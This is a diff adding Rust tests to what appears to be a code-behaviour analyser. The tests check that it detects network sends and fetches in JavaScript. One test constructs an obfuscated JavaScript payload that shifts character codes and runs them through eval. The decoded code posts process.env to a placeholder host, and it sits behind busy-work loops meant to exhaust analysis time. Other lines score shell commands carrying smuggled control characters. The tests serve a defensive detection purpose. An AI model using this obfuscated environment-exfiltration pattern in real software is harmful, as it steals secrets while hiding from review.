@@ -42,3 +42,35 @@ fn a_command_that_nobody_has_read_accuses_less() {
     assert_eq!(severity("git -c core.x=\u{1}\u{2}u clone"), crate::model::Severity::Medium);
     assert_eq!(severity("sh -c 'x \u{1}\u{2}u'"), crate::model::Severity::High);
 }
+
+/// Tables that nobody asks for take up neither the decoder that comes behind them nor what it sends.
+#[test]
+fn what_counts_for_long_leaves_decoders_their_steps() {
+    let busy = "var t = []; for (var i = 0; i < 90000; i++) { t[i % 256] = (i * 7 + 3) % 255; }\n".repeat(4);
+    let calls = "function walk(n) { return n < 2 ? n : walk(n - 1) + walk(n - 2); } walk(24);\n";
+    let hidden: Vec<String> = "fetch('https://collect.invalid/', { body: JSON.stringify(process.env) })"
+        .bytes()
+        .map(|b| (b + 3).to_string())
+        .collect();
+    let decoder = format!(
+        "var d = [{}], o = ''; for (var j = 0; j < d.length; j++) {{ o += String.fromCharCode(d[j] - 3); }} eval(o);",
+        hidden.join(",")
+    );
+    for (before, cut) in [(busy.clone(), true), (calls.to_owned(), false), (format!("{busy}{calls}"), true)] {
+        let outcome = outcome(Language::JavaScript, &format!("{before}{decoder}"));
+        assert_eq!(outcome.cut_off, cut);
+        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
+    }
+}
+
+/// A loop whose test asks for something unknown is gone through a few times, although it never comes to an end.
+#[test]
+fn loops_over_what_is_unknown_end() {
+    let code = "function each(o) { var i = 0; return function () { if (i >= o.length) return { done: true };
+                  return { done: false, value: o[i++] }; }; }
+                for (var next = each(input), step; !(step = next()).done;) { use(step.value); }
+                fetch('https://last.invalid/');";
+    let outcome = outcome(Language::JavaScript, code);
+    assert!(!outcome.cut_off);
+    assert_eq!(subject(&outcome, Act::Fetch), "https://last.invalid/");
+}
